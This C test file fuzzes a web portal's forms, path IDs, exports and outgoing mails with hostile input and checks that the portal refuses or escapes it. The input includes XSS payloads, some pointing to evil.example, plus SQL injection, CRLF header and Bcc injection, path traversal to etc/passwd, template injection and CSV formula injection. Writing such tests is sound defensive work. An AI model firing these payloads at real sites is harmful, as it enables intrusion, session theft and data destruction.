/* What strangers type, sent to every field of every form of every route, without knowing any: no
 * answer is a failure of ours, what is refused leaves nothing behind, and what is stored comes back
 * as text. */
#include "support/test.h"
#include "fixture/portal.h"
#include "fixture/portal_form.h"

#include "base/clock.h"
#include "base/log.h"
#include "base/str.h"
#include "job/mail.h"
#include "program/worker.h"
#include "support/folder.h"
#include "web/form.h"
#include "web/http.h"

#include <stdio.h>

static struct portal portal;
static struct arena *scratch;
static int faults, requests, accepted;
static char last_line[4000]; /* of the log: why a request failed */

static void keep_line(const char *line)
{
    snprintf(last_line, sizeof(last_line), "%s", line);
}

static int set_up(void **state)
{
    (void)state;
    log_set_sink(keep_line);
    scratch = arena_new(65536);
    portal_open(&portal);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    portal_close(&portal);
    arena_free(scratch);
    return 0;
}

/* -- what is typed ----------------------------------------------------------------------------- */

/* Each contains what must never stand in a page as it is. */
static const char *const scripts[] = {
    "<script>alert(1)</script>",
    "\"><script>alert(2)</script>",
    "'><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</style><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "<img src=x onerror=alert(8)>",
    "\"><img src=x onerror=alert(9)>",
    "<svg onload=alert(10)>",
    "<svg/onload=alert(11)>",
    "\" onmouseover=\"alert(12)",
    "' onmouseover='alert(13)",
    "\" autofocus onfocus=\"alert(14)",
    "<body onload=alert(15)>",
    "<iframe src=javascript:alert(16)>",
    "<a href=\"javascript:alert(17)\">x</a>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=p>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<object data=javascript:alert(22)>",
    "<embed src=javascript:alert(23)>",
    "<math><mi xlink:href=javascript:alert(24)>",
    "<details open ontoggle=alert(25)>",
    "<video><source onerror=alert(26)>",
    "<audio src=x onerror=alert(27)>",
    "<input onfocus=alert(28) autofocus>",
    "<select onfocus=alert(29) autofocus>",
    "<marquee onstart=alert(30)>",
    "<x onclick=alert(31)>x",
    "<!--<img src=\"--><img src=x onerror=alert(32)>",
    "<![CDATA[<script>alert(33)</script>",
    "<scr<script>ipt>alert(34)</script>",
    "<ScRiPt>alert(35)</sCrIpT>",
    "<script/x>alert(36)</script>",
    "<script\n>alert(37)</script>",
    "<<script>alert(38)//<</script>",
    "<img src=`x`onerror=alert(39)>",
    "<img/src/onerror=alert(40)>",
    "<svg><script>alert(41)</script></svg>",
    "<svg><animate onbegin=alert(42)>",
    "<svg><a xlink:href=javascript:alert(43)>",
    "<template><script>alert(44)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(45)>\">",
    "<table background=javascript:alert(46)>",
    "<div style=background:url(javascript:alert(47))>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "\" hx-get=\"//evil.example\" hx-trigger=\"load",
    "<button formaction=javascript:alert(50)>",
    "<isindex action=javascript:alert(51)>",
    "<plaintext>",
    "<xmp><script>alert(53)</script>",
    "&lt;script&gt;<b>alert(54)</b>",
    "\"<b id=x>",
    "<?php echo 1 ?><i>",
    "<?cs var:Actor.Name ?>",
    "<%= 7*7 %><i>",
    "'\"><u>",
};

/* Bodies are urlencoded already. */
static const char *const texts[] = {
    "%00",
    "a%00b",
    "%ff%fe",
    "%c0%af",
    "%ed%a0%80",
    "%f4%90%80%80",
    "%e4%b8",
    "%07bell",
    "%1b%5b31m",
    "%7f",
    "%c2%85",
    "a%0d%0aSet-Cookie%3a+x%3d1",
    "a%0d%0aBcc%3a+evil%40example.com%0d%0a%0d%0abody",
    "a%0aERROR+admin",
    "%e2%80%ae%e2%80%8f%e2%81%a6rtl",
    "%ef%bb%bf%e2%80%8bzero",
    "%f0%9f%98%80%f0%9f%91%a8%e2%80%8d%f0%9f%91%a9",
    "Z%cc%b5%cc%a1%cc%a2a%cc%b7",
    "%e6%b7%b1%e5%9c%b3%e5%b8%82%f0%a0%ae%b7%f0%a0%ae%b7",
    "%25n%25s%25x%25p",
    "%7b%7b7*7%7d%7d",
    "%24%7b7*7%7d",
    "%3c%3fcs+var%3a1+%3f%3e",
    "'+OR+1%3d1+--+",
    "'%3b+DROP+TABLE+deal%3b--",
    "%5c",
    "%5c'",
    "%25",
    "_%25_%25",
    "%3dcmd%7c'+%2fC+calc'!A0",
    "%2bSUM(1)",
    "%40SUM(1)",
    "-2%2b3",
    "%09tab",
    "+",
    "..%2f..%2f..%2fetc%2fpasswd",
    "https%3a%2f%2fevil.example",
    "javascript%3aalert(1)",
    "%2f%2fevil.example",
    "NaN",
    "null",
    "undefined",
    "-1",
    "0",
    "9223372036854775808",
};

/* Every field is asked this: beside a column of ASCII it is no text but an error of the server. */
static const char no_ascii[] = "%e6%b7%b1";

static const char *const numbers[] = {
    "-1",
    "0",
    "1e9",
    "0.5",
    "0.00001",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "99999999999999999999999999999999",
    "1+",
    "+1",
    "%2b1",
    "0x10",
    "1%2c000%2c00",
    "1%00",
    "%ff",
    "NaN",
    "Infinity",
    "%ef%bc%91",
    "1'",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "99999-01-01",
    "abc",
};

/* -- answers ----------------------------------------------------------------------------------- */

static void complain(struct portal_route *at, const char *what, const char *body, int status)
{
    static const struct route *last;
    static const char *last_what;

    /* One example of each. */
    faults++;
    if (last != NULL && last == at->route && last_what == what)
        return;
    last = at->route;
    last_what = what;
    print_error("%s (%s): %s: %d\n  %.300s\n  %.900s\n", at->route->name, at->route->path, what,
                status, body, status >= 500 ? last_line : "");
}

static const char *raw_script(const struct answer *a)
{
    for (size_t i = 0; i < ARRAY_LEN(scripts); i++)
        if (strstr(a->body, scripts[i]) != NULL)
            return scripts[i];
    return NULL;
}

static void judge(struct portal_route *at, const struct answer *a, const char *body)
{
    const char *type = answer_header(a, "Content-Type");

    requests++;
    if (a->status >= 500)
        complain(at, "it failed", body, a->status);
    if (type != NULL && str_starts(type, "text/html") && raw_script(a) != NULL)
        complain(at, "a script stands in the page", raw_script(a), a->status);
    if (strstr(a->headers, "\nSet-Cookie: x=1") != NULL)
        complain(at, "a header of the visitor's making", body, a->status);
}

/* A fault stands at its field, when the page that comes back has the form still. */
static void judge_fault(struct portal_route *at, const struct field *field, const struct answer *a,
                        const char *path, const char *body)
{
    char action[PORTAL_PATH_BYTES + 20], input[100], fault[100];

    snprintf(action, sizeof(action), "action=\"%s\"", path);
    snprintf(input, sizeof(input), " id=\"%s\"", field->name);
    snprintf(fault, sizeof(fault), " id=\"%s-err\"", field->name);
    if (a->status == 422 && at->route->retry != NULL && strstr(a->body, action) != NULL &&
        strstr(a->body, input) != NULL && strstr(a->body, fault) == NULL &&
        strstr(a->body, "role=\"alert\"") == NULL)
        complain(at, "no fault is shown", body, a->status);
}

/* Everything that people write, as one number that changes with each. */
static int64_t everything(void)
{
    static const struct db_field fields[] = { { "n", DB_I64, 0, 0, false }, { 0 } };
    static const struct db_stmt count = {
        .name = "test.everything",
        .sql = "SELECT (SELECT COUNT(*) + IFNULL(SUM(row_version), 0) FROM deal)"
               " + (SELECT COUNT(*) + IFNULL(SUM(row_version), 0) FROM user)"
               " + (SELECT COUNT(*) + IFNULL(SUM(row_version), 0) FROM account)"
               " + (SELECT COUNT(*) FROM deal_step) + (SELECT COUNT(*) FROM deal_line)"
               " + (SELECT COUNT(*) FROM comment) + (SELECT COUNT(*) FROM staff_note)"
               " + (SELECT COUNT(*) FROM outbox) + (SELECT COUNT(*) FROM notification)"
               " + (SELECT COUNT(*) FROM attachment) + (SELECT COUNT(*) FROM deal_extension)"
               " + (SELECT COUNT(*) FROM saved_view) + (SELECT COUNT(*) FROM claim_event)"
               " + (SELECT COUNT(*) FROM receipt) + (SELECT COUNT(*) FROM user_role)"
               " + (SELECT COUNT(*) FROM role_permission) + (SELECT COUNT(*) FROM opportunity)"
               " AS n",
        .binds = "",
        .fields = fields,
        .row_bytes = sizeof(int64_t),
        .flags = DB_WHOLE_TABLE,
    };
    struct db *db = portal.world.db;
    int64_t n = 0;

    assert_ok(db_begin_read(db));
    assert_ok(db_get(db, scratch, &count, DB_NO_ARGS, &n));
    assert_ok(db_commit(db));
    return n;
}

static bool is_log_in(const struct answer *a)
{
    const char *location = answer_header(a, "Location");

    return a->status == 303 && location != NULL && str_starts(location, "/login");
}

static struct answer send_once(struct portal_route *at, const char *path, const char *body)
{
    char address[20000];

    if (at->route->method == HTTP_POST)
        return webtest_post_bare(at->w, at->v, path, body);
    snprintf(address, sizeof(address), "%s%s%s", path, body[0] != '\0' ? "?" : "", body);
    return webtest_get(at->w, at->v, address);
}

/* -- the walk ---------------------------------------------------------------------------------- */

struct target {
    struct portal_route *at;
    const struct form *form;
    int stage;
    int64_t id, version;
    char path[PORTAL_PATH_BYTES];
};

static bool aim(struct target *t)
{
    if (t->at->route->object != NULL)
        t->id = portal_object(t->at, t->stage);
    if (t->at->route->object != NULL && t->id == 0)
        return false;
    t->version = portal_version(t->at, t->id);
    portal_path_of(t->at->route, t->id, t->path);
    return true;
}

/* A visit that was asked too often, or that ended its own session, begins again. */
static struct answer send_again(struct target *t, const struct field *field, const char *typed,
                                int64_t *before)
{
    if (t->at->audience != AUD_PUBLIC)
        portal_sign_in(&portal, t->at->audience);
    portal_forget_rates(&portal);
    if (t->at->route->method == HTTP_POST)
        *before = everything(); /* a session is a person's */
    return send_once(t->at, t->path, portal_body(t->at, t->form, field, typed, t->version));
}

static void try_one(struct target *t, const struct field *field, const char *typed)
{
    const char *body = portal_body(t->at, t->form, field, typed, t->version);
    const bool post = t->at->route->method == HTTP_POST;
    char what[400];
    int64_t before, after;
    struct answer a;

    snprintf(what, sizeof(what), "%s=%s", field->name, typed);
    before = post ? everything() : 0;
    a = send_once(t->at, t->path, body);
    if (a.status == 429 || (is_log_in(&a) && t->at->route->audience != AUD_PUBLIC))
        a = send_again(t, field, typed, &before);
    judge(t->at, &a, what);
    judge_fault(t->at, field, &a, t->path, what);
    after = post ? everything() : 0;
    if (a.status >= 400 && before != after)
        complain(t->at, "it was refused and left something behind", what, a.status);
    if (a.status == 303 && post) {
        const char *location = answer_header(&a, "Location");
        char next[2000] = "";

        accepted++;
        if (location != NULL && location[0] != '/')
            complain(t->at, "it leads away", location, a.status);
        if (location != NULL && str_starts(location, t->at->program->prefix))
            snprintf(next, sizeof(next), "%s", location);
        if (next[0] != '\0') {
            a = webtest_get(t->at->w, t->at->v, next);
            judge(t->at, &a, what);
        }
    }
    if (before != after)
        aim(t);
}

static bool has_secret(const struct form *form)
{
    for (const struct field *f = form->fields; f->name != NULL; f++)
        if (f->kind == FIELD_SECRET)
            return true;
    return false;
}

static bool is_text(const struct field *f)
{
    return f->kind <= FIELD_SECRET || f->kind == FIELD_EMAIL || f->kind == FIELD_PHONE ||
           f->kind == FIELD_URL;
}

static void try_scripts(struct target *t, const struct field *field, size_t count)
{
    static size_t next;

    for (size_t i = 0; i < count; i++)
        try_one(t, field, http_encode(scratch, scripts[next++ % ARRAY_LEN(scripts)], false));
}

/* Passwords cost a tenth of a second each: their forms are asked less, like those of the second
 * state of a record, and of the second audience.  What one leaves out the next one asks. */
static size_t step_of(const struct target *t)
{
    if (has_secret(t->form))
        return 24;
    if (t->stage > 0)
        return 12;
    return t->at->route->audience == AUD_SIGNED_IN || t->at->route->method == HTTP_GET ? 8 : 4;
}

static void try_field(struct target *t, const struct field *field)
{
    const size_t step = step_of(t);
    static size_t from;
    const char *const *list = is_text(field) ? texts : numbers;
    const size_t count = is_text(field) ? ARRAY_LEN(texts) : ARRAY_LEN(numbers);

    for (size_t i = from++ % step; i < count; i += step)
        try_one(t, field, list[i]);
    if (is_text(field))
        try_one(t, field, no_ascii);
    if (is_text(field))
        try_scripts(t, field, step > 4 ? 1 : 3);
}

static void try_form(struct portal_route *at)
{
    const bool post = at->route->method == HTTP_POST;
    struct target t = { .at = at, .form = post ? at->route->form : at->route->query };

    if (t.form == NULL)
        return;
    for (t.stage = 0; aim(&t); t.stage++) {
        for (const struct field *field = t.form->fields; field->name != NULL; field++)
            if (field->kind != FIELD_FILES)
                try_field(&t, field);
        if (at->route->object == NULL)
            return;
        arena_clear(scratch);
    }
}

static void test_c31__what_people_type_fails_nowhere_and_comes_back_as_text(void **state)
{
    const int64_t began = clock_monotonic_us();

    (void)state;
    faults = 0;
    portal_each(&portal, try_form);
    print_message("# %d requests, %d accepted, %lld ms\n", requests, accepted,
                  (long long)(clock_monotonic_us() - began) / 1000);
    assert_true(accepted > 100);
    assert_int_equal(faults, 0);
}

/* -- whole requests ---------------------------------------------------------------------------- */

static void expect(struct portal_route *at, const char *what, int status, bool ok)
{
    if (!ok)
        complain(at, "an answer that was not expected", what, status);
}

static int post_typed(struct target *t, const char *type, const char *body, size_t len)
{
    struct answer a = webtest_send(t->at->w, t->at->v, "POST", t->path, type, body, len);

    judge(t->at, &a, type);
    return a.status;
}

static const char url_type[] = "application/x-www-form-urlencoded";

static int post_text(struct target *t, const char *rest)
{
    char body[2000];

    snprintf(body, sizeof(body), "form_token=%s%s", portal_token(t->at), rest);
    return post_typed(t, url_type, body, strlen(body));
}

static bool is_client_fault(int status)
{
    return status >= 400 && status < 500;
}

/* A body of ten megabytes is refused where no files are taken, before a byte of it is read. */
static void try_large(struct target *t)
{
    static char large[10 * 1024 * 1024];
    const bool takes_files = t->form->body_max_bytes > sizeof(large);
    int status;

    memset(large, 'a', sizeof(large));
    large[1] = '=';
    status = post_typed(t, url_type, large, sizeof(large));
    expect(t->at, "10 MB", status, takes_files ? is_client_fault(status) : status == 413);
}

static const char *const broken[] = {
    "&nobody_has_this_field=1",
    "&a",
    "&account_id=1&price=0&status=paid&state=approved&role=admin&credit=1e9",
    "&form_token=x",
    "&do=%zz",
    "&%00=1",
    "&a[0]=1&a[b]=2",
    ";do=save",
};

static void try_request(struct portal_route *at)
{
    struct target t = { .at = at, .form = at->route->form };
    int64_t before;

    if (at->route->method != HTTP_POST || !aim(&t))
        return;
    portal_sign_in(&portal, at->audience);
    portal_forget_rates(&portal);
    before = everything();
    for (size_t i = 0; i < ARRAY_LEN(broken); i++) {
        const int status = post_text(&t, broken[i]);

        expect(at, broken[i], status, is_client_fault(status));
    }
    portal_forget_rates(&portal);
    for (const struct field *f = t.form->fields; f->name != NULL; f++)
        if (!f->list && f->kind != FIELD_FILES) {
            char twice[200];
            int status;

            snprintf(twice, sizeof(twice), "&%s=1&%s=2", f->name, f->name);
            status = post_text(&t, twice);
            expect(at, twice, status, status == 400);
        }
    try_large(&t);
    expect(at, "text", 0, is_client_fault(post_typed(&t, "text/plain", "a=b", 3)));
    expect(at, "JSON", 0, is_client_fault(post_typed(&t, "application/json", "{}", 2)));
    expect(at, "no boundary", 0,
           is_client_fault(post_typed(&t, "multipart/form-data", "--x\r\n", 5)));
    if (before != everything())
        complain(at, "what was refused left something behind", "", 0);
}

static void test_c22__requests_that_no_form_sends_are_refused_whole(void **state)
{
    (void)state;
    faults = 0;
    portal_each(&portal, try_request);
    assert_int_equal(faults, 0);
}

/* -- ids and parts of a path ------------------------------------------------------------------- */

static const char *const ids[] = {
    "0",
    "-1",
    "1.5",
    "1e9",
    "01",
    "+1",
    " 1",
    "1 ",
    "9223372036854775807",
    "9223372036854775808",
    "99999999999999999999999999",
    "x",
    "%",
    "%n%s",
    "'",
    "1'--",
    "<script>alert(1)</script>",
    "\xe6\xb7\xb1",
    "\xf0\x9f\x98\x80",
    "\xef\xbc\x91",
    "DR-DR-1",
    "dr-1",
    "{{7*7}}",
};

static void try_ids(struct portal_route *at)
{
    char path[PORTAL_PATH_BYTES], id[200];

    if (strchr(at->route->path, ':') == NULL)
        return;
    for (size_t i = 0; i < ARRAY_LEN(ids); i++) {
        struct answer a;
        char body[100];

        snprintf(id, sizeof(id), "%s%s",
                 at->route->object != NULL && i % 2 == 0 ? at->route->object->prefix : "", ids[i]);
        portal_path(at->route, id, ids[i], path);
        snprintf(body, sizeof(body), "form_token=%s", portal_token(at));
        a = at->route->method == HTTP_GET ? webtest_get(at->w, at->v, path)
                                          : webtest_post_bare(at->w, at->v, path, body);
        judge(at, &a, id);
        if (at->route->object != NULL)
            expect(at, id, a.status, a.status == 404 || a.status == 400 || a.status == 429);
    }
    portal_forget_rates(&portal);
}

static void test_c38__ids_that_are_none_are_nowhere(void **state)
{
    (void)state;
    faults = 0;
    portal_each(&portal, try_ids);
    assert_int_equal(faults, 0);
}

/* -- everything that was stored ---------------------------------------------------------------- */

static const char *const formulas[] = { "=cmd", "+SUM", "@SUM", "-2+3" };

/* The first cell that is a formula; NULL when there is none. */
static const char *formula_in(const char *sheet)
{
    bool quoted = false, begins = true;

    for (const char *p = sheet; *p != '\0'; p++) {
        for (size_t i = 0; begins && *p != '"' && i < ARRAY_LEN(formulas); i++)
            if (str_starts(p, formulas[i]))
                return formulas[i];
        if (*p == '"')
            quoted = !quoted;
        else
            begins = !quoted && strchr(",\r\n", *p) != NULL;
    }
    return NULL;
}

static void judge_sheet(struct portal_route *at, const struct answer *a)
{
    const char *type = answer_header(a, "Content-Type");

    if (type == NULL || strstr(type, "csv") == NULL)
        return;
    if (formula_in(a->body) != NULL)
        complain(at, "a formula in a sheet", formula_in(a->body), a->status);
}

static void show_page(struct portal_route *at)
{
    char path[PORTAL_PATH_BYTES];
    int64_t id = 0;

    if (at->route->method != HTTP_GET)
        return;
    for (int stage = 0; at->route->object == NULL ? stage == 0 : stage < 4; stage++) {
        struct answer a;

        if (at->route->object != NULL)
            id = portal_object(at, stage);
        if (at->route->object != NULL && id == 0)
            return;
        portal_path_of(at->route, id, path);
        a = webtest_get(at->w, at->v, path);
        judge(at, &a, path);
        judge_sheet(at, &a);
    }
}

/* After the walk above: lists, searches, exports and bells are full of what it wrote. */
static void test_c31__pages_and_sheets_show_what_was_stored_as_text(void **state)
{
    (void)state;
    faults = 0;
    for (enum audience audience = AUD_PARTNER; audience <= AUD_STAFF; audience++)
        portal_sign_in(&portal, audience);
    portal_run(&portal,
               "INSERT INTO notification (user_id, event, kind, object_id, values_json, created_at)"
               " SELECT u.id, n.event, n.kind, n.object_id, n.values_json, UTC_TIMESTAMP(6)"
               " FROM user u JOIN notification n WHERE u.email LIKE 'visitor-%' LIMIT 2000");
    portal_each(&portal, show_page);
    assert_int_equal(faults, 0);
}

/* -- mails ---------------------------------------------------------------------------------------
 */

static const struct db_field mail_fields[] = { { "n", DB_I64, 0, 0, false }, { 0 } };
static const struct db_stmt list_mails = {
    .name = "test.mails",
    .sql = "SELECT id AS n FROM outbox WHERE values_json LIKE '%alert(%' OR values_json LIKE '%<%'"
           " ORDER BY id DESC LIMIT ?",
    .binds = "i",
    .fields = mail_fields,
    .row_bytes = sizeof(int64_t),
    .flags = DB_LISTS,
};

/* No line of ours, and none that somebody wrote into a name. */
static const char *foreign_header(const char *message)
{
    static const char *const headers[] = { "\nBcc:", "\nSet-Cookie:", "\nERROR" };
    const char *body = strstr(message, "\r\n\r\n");

    assert_non_null(body);
    for (size_t i = 0; i < ARRAY_LEN(headers); i++) {
        const char *hit = strcasestr(message, headers[i]);

        if (hit != NULL && hit < body)
            return headers[i];
    }
    return NULL;
}

static void judge_mail(const struct outbox_sender *sender, int64_t id)
{
    const struct answer html = { .body = sender->parts[MAIL_HTML].data };

    if (raw_script(&html) != NULL) {
        print_error("mail %lld: %s\n", (long long)id, raw_script(&html));
        faults++;
    }
    if (foreign_header(sender->message.data) != NULL) {
        print_error("mail %lld has a header of the visitor's making\n", (long long)id);
        faults++;
    }
}

/* One after the other, since the sender keeps what it made until the next. */
static void send_one(struct job_context *ctx, struct outbox_sender *sender, int64_t id)
{
    volatile int stop = 0;
    char sql[200];
    int sent;

    snprintf(
        sql, sizeof(sql),
        "UPDATE outbox SET state = 'waiting', tries = 0, due_at = '2020-01-01' WHERE id = %lld",
        (long long)id);
    portal_run(&portal, sql);
    sender->hold_until_us = 0;
    assert_ok(outbox_send_due(ctx, sender, &stop, &sent));
    if (sent == 1)
        judge_mail(sender, id);
    arena_clear(ctx->arena);
}

/* Decisions on companies that are called so. */
static void make_mails(void)
{
    struct deal_world *w = &portal.world;

    assert_ok(db_begin_write(w->db));
    for (size_t i = 0; i < ARRAY_LEN(scripts); i += 3) {
        struct deal *d = deal_world_submitted(w, &w->north, scripts[i], 1);

        assert_ok(deal_decide(w->db, w->a, &w->vendor.by, d,
                              &(struct deal_decision){ .verb = DEAL_RETURN,
                                                       .reason_code = "other_return",
                                                       .reason_text = scripts[i] }));
    }
    assert_ok(db_commit(w->db));
}

static size_t send_all(struct job_context *ctx, struct outbox_sender *sender)
{
    int64_t *mails;
    size_t count;

    assert_ok(db_begin_read(portal.world.db));
    assert_ok(db_list(portal.world.db, scratch, &list_mails, DB_ARGS(DB_I(80)), &mails, &count));
    assert_ok(db_commit(portal.world.db));
    portal_run(&portal, "UPDATE outbox SET due_at = '2100-01-01'");
    for (size_t i = 0; i < count; i++)
        send_one(ctx, sender, mails[i]);
    return count;
}

static void test_c37__mails_show_what_was_stored_as_text(void **state)
{
    struct conf conf = *webtest_conf(portal.programs[0]);
    struct job_context ctx = { .arena = arena_new(16384), .conf = &conf, .owner = "test" };
    struct outbox_sender sender;
    struct mailer *mailer;
    struct templates *templates;
    struct folder folder;
    char manifest[600];

    (void)state;
    faults = 0;
    folder_make(&folder);
    conf.var = folder.path;
    conf.smtp_url = "";
    snprintf(manifest, sizeof(manifest), "%s/manifest.txt", conf.static_dir);
    assert_ok(templates_new(conf.templates, manifest, false, &templates));
    assert_ok(mailer_new(&conf, &mailer));
    outbox_sender_init(&sender, mailer, templates, worker_links);
    sender.contents = worker_contents;
    assert_ok(testdb_connect_as(webtest_schema(portal.programs[0]), "worker", worker_statements,
                                &ctx.db));
    make_mails();
    assert_true(send_all(&ctx, &sender) > 20);
    outbox_sender_clear(&sender);
    mailer_free(mailer);
    templates_free(templates);
    db_close(ctx.db);
    arena_free(ctx.arena);
    folder_remove(&folder);
    assert_int_equal(faults, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_c31__what_people_type_fails_nowhere_and_comes_back_as_text),
        cmocka_unit_test(test_c31__pages_and_sheets_show_what_was_stored_as_text),
        cmocka_unit_test(test_c37__mails_show_what_was_stored_as_text),
        cmocka_unit_test(test_c22__requests_that_no_form_sends_are_refused_whole),
        cmocka_unit_test(test_c38__ids_that_are_none_are_nowhere),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
